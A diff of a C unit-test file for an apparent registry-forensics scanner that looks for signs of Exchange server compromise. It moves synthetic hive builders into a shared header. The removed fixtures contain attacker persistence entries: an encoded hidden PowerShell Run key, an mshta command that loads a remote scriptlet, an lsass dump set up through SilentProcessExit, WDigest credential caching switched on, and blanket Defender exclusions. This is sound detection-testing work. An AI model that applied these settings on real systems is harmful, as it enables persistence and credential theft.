@@ -18,6 +18,7 @@
 #include "core/timeparse.h"
 #include "exsweep/exsweep.h"
 #include "fixfiles.h"
+#include "fixhives.h"
 #include "hivewriter.h"
 #include "memscan.h"
 #include "mkarchive.h"
@@ -30,8 +31,8 @@
 #define RUN "Microsoft\\Windows\\CurrentVersion\\Run"
 #define EXCL "Microsoft\\Windows Defender\\Exclusions\\"
 #define CV "Microsoft\\Windows NT\\CurrentVersion"
-#define T1 1615000000000LL /* 2021-03-06T03:06:40Z */
-#define T2 1615100000000LL /* 2021-03-07T06:53:20Z */
+#define T1 T_HIVE_T1 /* 2021-03-06T03:06:40Z */
+#define T2 T_HIVE_T2 /* 2021-03-07T06:53:20Z */
 
 static char *const root = t_dir;
 
@@ -153,87 +154,6 @@ static bool warned(const exs_scan *s, const char *kind, const char *text)
 
 /* ---------------------------------------------------------------- hives */
 
-static t_hw *software(void)
-{
-    t_hw *w = t_hw_new("CMI-CreateHive{199DAFC2-6F16-4946-BF90-5A3FC3A60902}");
-    t_hw_key(w, CV, 0);
-    t_hw_sz(w, CV, "ProductName", "Windows Server 2016 Standard");
-    t_hw_key(w, SETUP, T1);
-    t_hw_dword(w, SETUP, "MsiProductMajor", 15);
-    t_hw_dword(w, SETUP, "MsiProductMinor", 1);
-    t_hw_dword(w, SETUP, "MsiBuildMajor", 2176);
-    t_hw_dword(w, SETUP, "MsiBuildMinor", 2);
-    t_hw_sz(w, SETUP, "MsiInstallPath", "D:\\Exchange\\V15\\");
-    t_hw_sz(w, UNINST "{4934D1EA-BE46-48B1-8847-F1AF20E892C1}{6AC2C2A9-52E2-4C61-B5A1-6F1F7C7B4B29}",
-            "DisplayName",
-            "Security Update for Exchange Server 2016 Cumulative Update 19 (KB5000871)");
-    t_hw_sz(w, UNINST "{4934D1EA-BE46-48B1-8847-F1AF20E892C1}{6AC2C2A9-52E2-4C61-B5A1-6F1F7C7B4B29}",
-            "InstallDate", "20210303");
-    t_hw_key(w, "Wow6432Node\\" UNINST "KB5001779", T2);
-    t_hw_sz(w, "Wow6432Node\\" UNINST "KB5001779", "DisplayName",
-            "Update for Exchange Server 2016 CU19");
-    t_hw_sz(w, UNINST "7-Zip", "DisplayName", "7-Zip 19.00 (x64)");
-    t_hw_sz(w, RUN, "VMware User Process",
-            "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr");
-    t_hw_expand_sz(w, RUN, "SecurityHealth", "%windir%\\system32\\SecurityHealthSystray.exe");
-    /* Microsoft's recommended Exchange exclusions, old and new */
-    t_hw_dword(w, EXCL "Paths", "%ExchangeInstallPath%ClientAccess\\OAB", 0);
-    t_hw_dword(w, EXCL "Paths", "D:\\Exchange\\V15\\Logging", 0);
-    t_hw_dword(w, EXCL "Paths", "D:\\Exchange\\V15\\TransportRoles\\Data\\Queue", 0);
-    t_hw_dword(w, EXCL "Paths", "C:\\Windows\\Cluster", 0);
-    t_hw_dword(w, EXCL "Paths", "C:\\inetpub\\temp\\IIS Temporary Compressed Files", 0);
-    t_hw_dword(w, EXCL "Paths",
-               "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files", 0);
-    t_hw_dword(w, EXCL "Paths", "C:\\Windows\\System32\\Inetsrv", 0);
-    t_hw_dword(w, EXCL "Extensions", ".edb", 0);
-    t_hw_dword(w, EXCL "Extensions", "log", 0);
-    t_hw_dword(w, EXCL "Processes", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", 0);
-    t_hw_dword(w, EXCL "Processes", "D:\\Exchange\\V15\\Bin\\EdgeTransport.exe", 0);
-    t_hw_dword(w, CV "\\Image File Execution Options\\notepad.exe", "GlobalFlag", 0x200);
-    return w;
-}
-
-static t_hw *system_hive(unsigned current)
-{
-    t_hw *w = t_hw_new("ROOT");
-    t_hw_dword(w, "Select", "Current", current);
-    t_hw_dword(w, "Select", "Default", 1);
-    for (unsigned cs = 1; cs <= 2; cs++) {
-        char p[128];
-        snprintf(p, sizeof p, "ControlSet%03u\\Services\\W32Time", cs);
-        t_hw_expand_sz(w, p, "ImagePath", "%SystemRoot%\\system32\\svchost.exe -k LocalService");
-        snprintf(p, sizeof p, "ControlSet%03u\\Services\\WinDefend", cs);
-        t_hw_expand_sz(w, p, "ImagePath",
-                       "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2102.4-0\\"
-                       "MsMpEng.exe\"");
-        snprintf(p, sizeof p, "ControlSet%03u\\Services\\MpKsl4b3b1e2a", cs);
-        t_hw_sz(w, p, "ImagePath",
-                "\\??\\C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\"
-                "{5E4DEE6E-1F53-4A3B-9E3B-1A2B3C4D5E6F}\\MpKslDrv.sys");
-        snprintf(p, sizeof p, "ControlSet%03u\\Services\\MSExchangeUM", cs);
-        t_hw_key(w, p, T2);
-        t_hw_dword(w, p, "Start", 4);
-        snprintf(p, sizeof p, "ControlSet%03u\\Services\\MSExchangeUMCR", cs);
-        t_hw_key(w, p, T2);
-        t_hw_dword(w, p, "Start", 4);
-        snprintf(p, sizeof p, "ControlSet%03u\\Services\\MSExchangeIS", cs);
-        t_hw_sz(w, p, "ImagePath", "\"D:\\Exchange\\V15\\Bin\\Microsoft.Exchange.Store.Service.exe\"");
-        t_hw_dword(w, p, "Start", 2);
-        snprintf(p, sizeof p, "ControlSet%03u\\Control\\SecurityProviders\\WDigest", cs);
-        t_hw_dword(w, p, "UseLogonCredential", 0);
-    }
-    return w;
-}
-
-static t_hw *ntuser(void)
-{
-    t_hw *w = t_hw_new("CsiTool-CreateHive-{00000000-0000-0000-0000-000000000000}");
-    t_hw_key(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Explorer", 0);
-    t_hw_sz(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive",
-            "\"C:\\Users\\admin\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background");
-    return w;
-}
-
 #define BENIGN_STATE                                                                               \
     "build|registry|15.1.2176.2|2021-03-06T03:06:40.000Z|" SETUP "\\MsiProductMajor 15, "         \
     "MsiProductMinor 1, MsiBuildMajor 2176, MsiBuildMinor 2|C/Windows/System32/config/SOFTWARE\n" \
@@ -250,9 +170,9 @@ static t_hw *ntuser(void)
 static void test_benign(void **st)
 {
     (void)st;
-    put_hive(CFG "SOFTWARE", software(), NULL);
-    put_hive(CFG "SYSTEM", system_hive(1), NULL);
-    put_hive("C/Users/admin/NTUSER.DAT", ntuser(), NULL);
+    put_hive(CFG "SOFTWARE", t_hive_software(), NULL);
+    put_hive(CFG "SYSTEM", t_hive_system(1), NULL);
+    put_hive("C/Users/admin/NTUSER.DAT", t_hive_ntuser(), NULL);
     exs_scan *s = sweep(NULL);
     expect_text(findings(s), "", "findings");
     expect_text(state(s), BENIGN_STATE, "state");
@@ -264,30 +184,8 @@ static void test_benign(void **st)
 static void test_software_changes(void **st)
 {
     (void)st;
-    t_hw *w = software();
-    t_hw_key(w, RUN, T2);
-    t_hw_sz(w, RUN, "svchost", "C:\\ProgramData\\svchost.exe");
-    t_hw_sz(w, RUN "Once", "upd",
-            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
-    t_hw_sz(w, "Wow6432Node\\" RUN, "x",
-            "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.exe");
-    t_hw_key(w, EXCL "Paths", T1);
-    t_hw_dword(w, EXCL "Paths", "C:\\inetpub\\wwwroot\\aspnet_client", 0);
-    t_hw_dword(w, EXCL "Paths", "%ExchangeInstallPath%FrontEnd\\HttpProxy", 0);
-    t_hw_dword(w, EXCL "Paths", "C:\\", 0);
-    t_hw_dword(w, EXCL "Paths", "D:\\Exchange\\V15", 0);
-    t_hw_key(w, "Policies\\" EXCL "Extensions", T2);
-    t_hw_dword(w, "Policies\\" EXCL "Extensions", ".aspx", 0);
-    t_hw_dword(w, "Policies\\" EXCL "Extensions", "*", 0);
-    t_hw_dword(w, CV "\\Image File Execution Options\\lsass.exe", "GlobalFlag", 0x200);
-    t_hw_key(w, CV "\\SilentProcessExit\\lsass.exe", T1);
-    t_hw_dword(w, CV "\\SilentProcessExit\\lsass.exe", "ReportingMode", 2);
-    t_hw_sz(w, CV "\\SilentProcessExit\\lsass.exe", "LocalDumpFolder", "c:\\temp");
-    t_hw_dword(w, CV "\\SilentProcessExit\\lsass.exe", "DumpType", 2);
-    t_hw_key(w, "MSERTBootstrap\\PatchState", T2);
-    t_hw_sz(w, "MSERTBootstrap\\PatchState", "Timestamp", "03/07/2021 01:00:00");
-    t_hw_sz(w, "MSERTBootstrap\\PatchState", "IISVersion", "1 IIS version 10.0");
-    t_hw_sz(w, "MSERTBootstrap\\PatchState", "MSERT", "0 MSERT detected threats");
+    t_hw *w = t_hive_software();
+    t_hive_software_changes(w);
     put_hive(CFG "SOFTWARE", w, NULL);
     exs_scan *s = sweep(NULL);
     expect_text(
@@ -352,18 +250,8 @@ static void test_eomt_timestamp(void **st)
 static void test_system_changes(void **st)
 {
     (void)st;
-    t_hw *w = system_hive(2); /* the changes in the set in use, ControlSet002 */
-    t_hw_key(w, "ControlSet002\\Services\\msupdate", T1);
-    t_hw_sz(w, "ControlSet002\\Services\\msupdate", "ImagePath", "C:\\Users\\Public\\msupdate.exe");
-    t_hw_key(w, "ControlSet002\\Services\\updsvc", T2);
-    t_hw_expand_sz(w, "ControlSet002\\Services\\updsvc", "ImagePath",
-                   "%COMSPEC% /c C:\\Windows\\Temp\\x.bat");
-    t_hw_sz(w, "ControlSet002\\Services\\websvc", "ImagePath",
-            "\"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\svc.exe\"");
-    t_hw_key(w, "ControlSet002\\Control\\SecurityProviders\\WDigest", T2);
-    t_hw_dword(w, "ControlSet002\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", 1);
-    /* the set not in use is not read */
-    t_hw_sz(w, "ControlSet001\\Services\\old", "ImagePath", "C:\\ProgramData\\old.exe");
+    t_hw *w = t_hive_system(2); /* the changes in the set in use, ControlSet002 */
+    t_hive_system_changes(w);
     put_hive(CFG "SYSTEM", w, NULL);
     exs_scan *s = sweep(NULL);
     expect_text(findings(s),
@@ -386,12 +274,8 @@ static void test_system_changes(void **st)
 static void test_user_run(void **st)
 {
     (void)st;
-    t_hw *w = ntuser();
-    t_hw_key(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", T1);
-    t_hw_sz(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "helper",
-            "mshta.exe javascript:a=GetObject(\"script:http://198.51.100.7/x.sct\").Exec();close()");
-    t_hw_sz(w, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "dll",
-            "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL");
+    t_hw *w = t_hive_ntuser();
+    t_hive_ntuser_changes(w);
     put_hive("C/Users/admin/NTUSER.DAT", w, NULL);
     exs_scan *s = sweep(NULL);
     expect_text(findings(s),
@@ -407,7 +291,7 @@ static void test_user_run(void **st)
 static void test_archive_member(void **st)
 {
     (void)st;
-    t_hw *w = system_hive(1);
+    t_hw *w = t_hive_system(1);
     t_hw_key(w, "ControlSet001\\Control\\SecurityProviders\\WDigest", T2);
     t_hw_dword(w, "ControlSet001\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", 1);
     size_t n;
@@ -434,7 +318,7 @@ static void test_dirty(void **st)
 {
     (void)st;
     t_hw_opts o = {true, 0, "\\??\\C:\\Windows\\System32\\config\\SYSTEM", 0};
-    put_hive(CFG "SYSTEM", system_hive(1), &o);
+    put_hive(CFG "SYSTEM", t_hive_system(1), &o);
     exs_scan *s = sweep(NULL);
     assert_true(warned(s, "unreadable", "dirty hive: its transaction logs were not applied; "
                                         "recent changes may be missing"));
@@ -453,10 +337,10 @@ static void test_dirty_replayed(void **st)
     t_hw_opts o = {true, 0, NULL, 0};
     size_t n[2];
     unsigned char *h[2];
-    t_hw *w = system_hive(1);
+    t_hw *w = t_hive_system(1);
     h[0] = t_hw_build(w, &o, &n[0]);
     t_hw_free(w);
-    w = system_hive(1);
+    w = t_hive_system(1);
     t_hw_key(w, "ControlSet001\\Control\\SecurityProviders\\WDigest", T2);
     t_hw_dword(w, "ControlSet001\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", 1);
     h[1] = t_hw_build(w, &o, &n[1]);
@@ -497,7 +381,7 @@ static void test_dirty_replayed(void **st)
 static void test_damaged(void **st)
 {
     (void)st;
-    t_hw *w = software();
+    t_hw *w = t_hive_software();
     size_t n;
     unsigned char *b = t_hw_build(w, NULL, &n);
     t_hw_free(w);
@@ -561,8 +445,8 @@ static void test_caps(void **st)
         "values past the per-key cap", "keys past the per-hive cap", "keys too deep",
         "values whose data is too large to read"};
     for (size_t i = 0; i < sizeof tunes / sizeof tunes[0]; i++) {
-        put_hive(CFG "SYSTEM", system_hive(1), NULL);
-        put_hive(CFG "SOFTWARE", software(), NULL);
+        put_hive(CFG "SYSTEM", t_hive_system(1), NULL);
+        put_hive(CFG "SOFTWARE", t_hive_software(), NULL);
         exs_scan *s = sweep(tunes[i]);
         size_t n;
         const exs_warning *wv = exs_results_warnings(exs_scan_results(s), &n);
@@ -582,7 +466,7 @@ static void test_caps(void **st)
     snprintf(sw, sizeof sw, "%s/" CFG "SOFTWARE", root);
     assert_int_equal(unlink(sw), 0);
     t_hw_opts one = {false, 0, NULL, 0, true};
-    t_hw *w1 = system_hive(1);
+    t_hw *w1 = t_hive_system(1);
     for (int i = 0; i < 60; i++) { /* more than a page of cells */
         char name[64];
         snprintf(name, sizeof name, "ControlSet001\\Services\\pad%02d", i);
@@ -601,7 +485,7 @@ static void test_caps(void **st)
     expect_text(state(sb), "", "state");
     exs_scan_destroy(sb);
     /* bytes: a larger hive is not read at all */
-    put_hive(CFG "SYSTEM", system_hive(1), NULL);
+    put_hive(CFG "SYSTEM", t_hive_system(1), NULL);
     exs_scan *s = sweep(lower_bytes);
     assert_true(warned(s, "limit", "past the 4096-byte cap: not read"));
     expect_text(state(s), "", "state");
@@ -612,7 +496,7 @@ static void test_caps(void **st)
 static void test_bytes_cap(void **st)
 {
     (void)st;
-    t_hw *w = system_hive(1);
+    t_hw *w = t_hive_system(1);
     size_t n;
     unsigned char *b = t_hw_build(w, NULL, &n);
     t_hw_free(w);
